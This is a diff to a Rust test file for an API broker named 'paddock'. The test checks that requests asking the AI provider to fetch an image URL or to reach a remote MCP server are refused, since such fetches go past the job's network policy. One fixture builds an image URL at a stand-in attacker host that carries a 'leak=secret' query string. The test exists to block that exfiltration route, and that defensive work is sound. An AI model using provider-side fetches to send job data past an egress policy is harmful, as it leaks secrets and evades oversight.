@@ -503,8 +503,9 @@ async fn a_background_response_is_refused_before_the_upstream() {
 }
 
 /// A call that would have the provider itself connect to a server the job
-/// names (a Responses remote MCP tool at `https://evil.example/`), which no
-/// egress policy sees, is refused before it reaches the upstream: a 400 in
+/// names (a Responses remote MCP tool at `https://evil.example/`, an image
+/// given by URL), which no egress policy sees, is refused before it
+/// reaches the upstream: a 400 in
 /// the API's format, a `refused` row, a `policy` event with rule
 /// `network`. The same call with web search only runs. (Before, it was
 /// forwarded: the job's prompt could go to any host.)
@@ -541,6 +542,33 @@ async fn a_call_naming_a_server_for_the_provider_is_refused() {
                 rule: "network".into(),
                 message: message.into()
             }),
+            0
+        )
+    );
+    // An image the provider would fetch from the job's URL: refused too.
+    let mut image = responses_body(Some(100));
+    image["input"][0]["content"]
+        .as_array_mut()
+        .unwrap()
+        .push(serde_json::json!({"type": "input_image", "image_url": "https://evil.example/?leak=secret"}));
+    let (status, text) = post(&client(), &rig, "/v1/responses", &image).await;
+    let refused = ledger(&mut rig, 1).await.remove(0);
+    let message = "paddock broker: an image or file given by URL (`image_url`, `file_url`, a \
+                   `url` source) would have the provider connect to a server the job names, past \
+                   the job's network policy; refused";
+    assert_eq!(
+        (
+            status,
+            serde_json::from_str::<serde_json::Value>(&text).ok(),
+            refused.status,
+            rig.upstream.requests().len()
+        ),
+        (
+            400,
+            Some(
+                serde_json::json!({"error": {"message": message, "type": "invalid_request_error", "code": "invalid_request_error"}})
+            ),
+            CallStatus::Refused,
             0
         )
     );
